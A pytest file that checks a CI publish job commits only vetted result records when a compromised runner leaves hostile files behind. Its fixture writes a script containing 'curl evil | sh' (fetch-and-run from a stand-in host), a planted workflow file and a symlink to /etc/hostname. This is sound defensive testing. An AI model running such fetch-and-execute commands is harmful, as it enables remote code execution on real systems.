"""Issue 15, item 1: the publish job commits only vetted result records.

The attacker controls the publish job's GPU runner (a merged submission's model, measured
there, exploits it) and leaves files in ``results/`` for the next job, which holds
``contents: write``: a forged record for another team, a script, a workflow file in a
sub-folder, a 5 MB blob, a record whose id is not its path.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from ci_helpers import (
    INT8_MEASURED,
    INT8_YAML,
    actions_env,  # noqa: F401  (autouse fixture)
    ci_main,
    make_record,
)
from fake_github import FakeGithub

from mcval.results import save_record

BASE = "course/table"
OWN = "submissions/ml_masters/int8.yaml"


@pytest.fixture
def fake(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeGithub]:
    with FakeGithub() as server:
        server.add_token("rw", "contents:write")
        server.create_repo(BASE, {"README.md": "# Course\n"})
        monkeypatch.setenv("GITHUB_TOKEN", "rw")
        monkeypatch.setenv("GITHUB_REPOSITORY", BASE)
        monkeypatch.setenv("GITHUB_API_URL", server.url)
        yield server


def artifact(tmp_path: Path) -> Path:
    return tmp_path / "artifact"


def merged_checkout(root: Path) -> Path:
    """The merged commit: one real submission; README regenerated."""
    (root / "submissions/ml_masters").mkdir(parents=True)
    (root / OWN).write_text(INT8_YAML)
    (root / "README.md").write_text("# Course\n| row |\n")
    return root


def hostile_results(repo: Path, runner_results: Path) -> bytes:
    """What a compromised runner leaves; returns the bytes of the one honest record."""
    record = make_record(repo, OWN, INT8_MEASURED).model_copy(update={"verdict": "pass"})
    honest = save_record(runner_results, record).read_bytes()
    # deep: the shared INT8_MEASURED must not change under other tests
    forged = record.model_copy(update={"id": "quant_squad/fp16", "team": "quant_squad"}, deep=True)
    forged.measured.weights_mb = 1.0
    save_record(runner_results, forged)  # another team's row, no such submission merged
    other = record.model_copy(update={"id": "ml_masters/int4"})
    save_record(runner_results, other)  # a row for a submission that does not exist
    for name in ("renamed", "bad"):  # these submissions exist: their records are refused
        (repo / f"submissions/ml_masters/{name}.yaml").write_text(INT8_YAML)
    (runner_results / "ml_masters/renamed.json").write_bytes(honest)  # id is not the path
    (runner_results / "payload.sh").write_text("curl evil | sh\n")
    evil = runner_results / "x/.github/workflows/evil.yml"
    evil.parent.mkdir(parents=True)
    evil.write_text("on: push\n")
    (runner_results / "ml_masters/blob.json").write_bytes(b" " * (5 * 1024 * 1024))
    (runner_results / "ml_masters/link.json").symlink_to("/etc/hostname")
    (runner_results / "ml_masters/bad.json").write_text('{"id": NaN}')
    return honest


def test_results_step_accepts_only_vetted_records(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = merged_checkout(tmp_path / "repo")
    honest = hostile_results(repo, tmp_path / "artifact")
    assert (
        ci_main(["ci", "results", "--repo", str(repo), "--from", str(tmp_path / "artifact")]) == 0
    )
    files = sorted(p.relative_to(repo).as_posix() for p in (repo / "results").rglob("*"))
    assert files == ["results/ml_masters", "results/ml_masters/int8.json"]
    assert (repo / "results/ml_masters/int8.json").read_bytes() == honest
    err = capsys.readouterr().err
    for refused in (
        "results/quant_squad/fp16.json: no submission submissions/quant_squad/fp16.yaml",
        "results/ml_masters/int4.json: no submission submissions/ml_masters/int4.yaml",
        "results/payload.sh: only results/<team>/<name>.json files are published",
        "results/x/.github/workflows/evil.yml: only results/<team>/<name>.json",
        "results/ml_masters/blob.json: 5242880 bytes; a result record has at most 262144",
        "results/ml_masters/link.json: not a regular file",
        "results/ml_masters/bad.json: not a valid result record",
    ):
        assert f"warning: not published: {refused}" in err, err
    assert (
        "results/ml_masters/renamed.json: the record is for 'ml_masters/int8' (team "
        "'ml_masters'), not for ml_masters/renamed"
    ) in err


def test_publish_commits_nothing_but_readme_plot_and_vetted_records(
    fake: FakeGithub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Even if the runner's tree lands in the checkout unvetted, publish filters it."""
    repo = merged_checkout(tmp_path / "repo")
    honest = hostile_results(repo, repo / "results")
    start = fake.branch_sha(BASE)
    argv = ["ci", "publish", "--repo", str(repo), "--base-sha", start, "--missing-ok"]
    assert ci_main([*argv, "--files", "README.md", "results.svg", "results"]) == 0
    tree = fake.trees[fake.commits[fake.branch_sha(BASE)]["tree"]]
    assert sorted(tree) == ["README.md", "results/ml_masters/int8.json"]
    assert fake.file_at(BASE, "main", "results/ml_masters/int8.json") == honest
    assert "not published: results/payload.sh" in capsys.readouterr().err


def test_publish_refuses_a_file_it_does_not_own(
    fake: FakeGithub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = merged_checkout(tmp_path / "repo")
    (repo / ".github/workflows").mkdir(parents=True)
    (repo / ".github/workflows/evil.yml").write_text("on: push\n")
    argv = ["ci", "publish", "--repo", str(repo), "--files", "README.md", ".github"]
    assert ci_main(argv) == 2
    assert capsys.readouterr().err == (
        "error: .github: only README.md, results, results.svg are published; refusing '.github'\n"
    )
    assert fake.file_at(BASE, "main", ".github/workflows/evil.yml") is None


def test_table_after_vetting_shows_no_forged_row(tmp_path: Path) -> None:
    """The table is regenerated from what was accepted: the forged row never renders."""
    from mcval.cli import main as mcval_main
    from mcval.policy import DEFAULT_HEADING

    repo = merged_checkout(tmp_path / "repo")
    (repo / ".git").mkdir()
    (repo / "README.md").write_text(f"# Course\n\n## {DEFAULT_HEADING}\n")
    hostile_results(repo, tmp_path / "artifact")
    assert (
        ci_main(["ci", "results", "--repo", str(repo), "--from", str(tmp_path / "artifact")]) == 0
    )
    assert mcval_main(["table", "--repo", str(repo), "--results", str(repo / "results")]) == 0
    readme = (repo / "README.md").read_text()
    assert "openai/whisper-small" in readme
    assert "quant_squad" not in readme
    records = [json.loads(p.read_text()) for p in (repo / "results").rglob("*.json")]
    assert [r["id"] for r in records] == ["ml_masters/int8"]
